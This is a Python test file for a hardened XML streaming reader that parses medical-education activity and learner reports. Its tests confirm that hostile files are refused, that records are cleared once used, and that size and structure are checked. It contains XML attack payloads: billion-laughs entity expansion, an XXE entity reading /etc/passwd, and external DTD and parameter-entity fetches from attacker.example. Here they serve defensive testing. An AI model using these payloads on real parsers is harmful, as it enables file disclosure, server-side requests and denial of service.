"""The one hardened XML streaming loop (`pars.intake.readers.xml`), driven directly.

Activity files and learner files go through the same loop, each with its own
:class:`RecordSpec`; what the loop refuses it refuses alike for both, and it clears each
record element once the mapping has used it.
"""

from __future__ import annotations

import dataclasses
import io
from typing import Any

import pytest

from pars.activities.parsers.xml import activity_spec
from pars.intake.readers import FileRejected, ParsedRow
from pars.intake.readers.xml import RecordSpec, read_records, stream_records
from pars.learners.parsers.xml import learner_spec

LONG_COMMENT = b"<!--" + b" padding " * 40_000 + b"-->\n"  # past the byte pre-scan
_LAUGHS = b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1)) * 10) for n in range(1, 10))

# name -> the hostile prolog and body, for a file whose root is `{root}`.
HOSTILE = {
    "billion laughs": b'<!DOCTYPE {root} [<!ENTITY lol0 "lol">'
    + _LAUGHS
    + b"]><{root}>&lol9;</{root}>",
    "external entity": b'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<{root}>&xxe;</{root}>",
    "external DTD": b'<!DOCTYPE {root} SYSTEM "http://attacker.example/x.dtd"><{root}/>',
    "parameter entity": b'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    b"<{root}/>",
}


def _never(element: Any) -> list[tuple[dict[str, Any], str | None]]:
    raise AssertionError("a refused file must not reach the record mapping")


def _specs() -> dict[str, RecordSpec]:
    return {
        "activities": dataclasses.replace(activity_spec(), to_records=_never),
        "learners": dataclasses.replace(learner_spec(), to_records=_never),
    }


def _refusal(data: bytes, spec: RecordSpec) -> str:
    with pytest.raises(FileRejected) as refused:
        list(read_records(io.BytesIO(data), spec))
    return refused.value.message


@pytest.mark.parametrize("prefix", [b"", LONG_COMMENT], ids=["up front", "after a long comment"])
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_file_is_refused_alike_for_both_kinds(name: str, prefix: bytes) -> None:
    messages = set()
    for spec in _specs().values():
        root = spec.roots[0].encode()
        data = b'<?xml version="1.0"?>\n' + prefix + HOSTILE[name].replace(b"{root}", root)
        messages.add(_refusal(data, spec))
    (message,) = messages  # the same words for an activity file and a learner file
    assert "DOCTYPE" in message
    assert "Remove the <!DOCTYPE" in message
    if prefix:  # the prolog watch, not the byte pre-scan, caught it
        assert message.startswith("The file has a DOCTYPE")


def test_an_undeclared_entity_is_refused_alike_for_both_kinds() -> None:
    messages = {
        _refusal(f"<{spec.roots[0]}>\n&xxe;</{spec.roots[0]}>".encode(), spec)
        for spec in _specs().values()
    }
    (message,) = messages
    assert message.startswith("The file is not well-formed XML at line 2")
    assert "Entity 'xxe' not defined" in message


@pytest.mark.parametrize("kind", ["activities", "learners"])
def test_the_loop_checks_root_place_size_and_emptiness_per_spec(kind: str) -> None:
    spec = _specs()[kind]
    root, record = spec.roots[0], spec.records[0]
    assert _refusal(b"", spec) == "The file is empty."
    assert _refusal(b"<Other/>", spec) == f"The root element is <Other>; {spec.layout}"
    nested = f"<{root}>\n<Batch><{record}/></Batch></{root}>".encode()
    assert _refusal(nested, spec) == (
        f"Line 2: <{record}> must be a direct child of the root <{root}>; it is inside <Batch>."
    )
    small = dataclasses.replace(spec, max_gap_bytes=1024 * 1024)
    junk = f"<{root}><Junk>".encode() + b"<j>filler</j>" * 200_000
    message = _refusal(junk + f"</Junk></{root}>".encode(), small)
    assert message.startswith(f"More than 1 MB of XML without a complete <{record}>")
    assert f"{spec.one_record} is far too large" in message


def _activity(number: int) -> bytes:
    return (
        b"<MedicalEducationMetrics><ActivityDescription><lom><general><identifier>"
        b"<catalog>Provider Activity ID</catalog><entry>A-%d</entry></identifier>"
        b"<title>Session %d</title></general></lom></ActivityDescription>"
        b"</MedicalEducationMetrics>\n" % (number, number)
    )


def _report(number: int) -> bytes:
    return (
        b"<LearnerReport><Member><UniqueID domain='ABIM'>L-%d</UniqueID>"
        b"<Name><GivenName>Ada</GivenName><FamilyName>Lovelace</FamilyName></Name></Member>"
        b"<Activity activityID='A-1'><Module><CompletedDateTime>2026-03-01"
        b"</CompletedDateTime><CreditCertificate><CreditReceived>"
        b"<activityCertification>ABIM</activityCertification><numberOfCredits>2"
        b"</numberOfCredits></CreditReceived></CreditCertificate></Module></Activity>"
        b"</LearnerReport>\n" % number
    )


FILES = {
    "activities": (b"<ACCMEActivities>\n", _activity, b"</ACCMEActivities>\n"),
    "learners": (b"<ACCMELearnerReports>\n", _report, b"</ACCMELearnerReports>\n"),
}
COUNT = 2_000  # well past one 64 KB chunk, so records come in many batches


@pytest.mark.parametrize("kind", ["activities", "learners"])
def test_each_record_is_cleared_once_used_so_the_tree_stays_flat(kind: str) -> None:
    real = {"activities": activity_spec(), "learners": learner_spec()}[kind]
    head, record, tail = FILES[kind]
    data = head + b"".join(record(number) for number in range(1, COUNT + 1)) + tail
    assert len(data) > 4 * 64 * 1024
    held: list[Any] = []
    before: list[int] = []

    def watching(element: Any) -> Any:
        # The record before this one has been emptied, and the ones before it are gone.
        if held:
            assert len(held[-1]) == 0
            assert held[-1].text is None
            assert not held[-1].attrib
        held.append(element)
        before.append(element.getparent().index(element))
        assert len(element) > 0  # the record itself is whole while it is mapped
        return real.to_records(element)

    rows = list(read_records(io.BytesIO(data), dataclasses.replace(real, to_records=watching)))

    assert [row.row for row in rows] == list(range(1, COUNT + 1))
    identifier = "provider_activity_id" if kind == "activities" else "learner_id"
    assert rows[-1].data[identifier] == f"{'A' if kind == 'activities' else 'L'}-{COUNT}"
    assert len(held) == COUNT
    # Before the record being mapped, the root keeps at most the emptied one before it.
    assert before[0] == 0
    assert max(before) == 1
    assert all(len(element) == 0 for element in held)  # every record cleared in the end


def test_positions_count_records_and_rows_count_what_the_mapping_gives() -> None:
    # A kind of its own: each <Thing> gives as many raw records as its @n says.
    spec = RecordSpec(
        roots=("Things",),
        records=("Thing",),
        layout="a file of things has <Things> with one <Thing> per thing.",
        one_record="a thing",
        to_records=lambda element: [
            ({"thing": element.get("id"), "part": part}, None)
            for part in range(int(element.get("n")))
        ],
    )
    data = b"<Things><Thing id='a' n='2'/><Thing id='b' n='0'/><Thing id='c' n='1'/></Things>"
    positions = [position for position, _ in stream_records(io.BytesIO(data), spec)]
    assert positions == [1, 2, 3]
    rows = list(read_records(io.BytesIO(data), spec))
    assert rows == [
        ParsedRow(1, {"thing": "a", "part": 0}),
        ParsedRow(2, {"thing": "a", "part": 1}),
        ParsedRow(3, {"thing": "c", "part": 0}),
    ]
    single = list(read_records(io.BytesIO(b"<Thing id='x' n='1'/>"), spec))
    assert single == [ParsedRow(1, {"thing": "x", "part": 0})]  # a record as the root
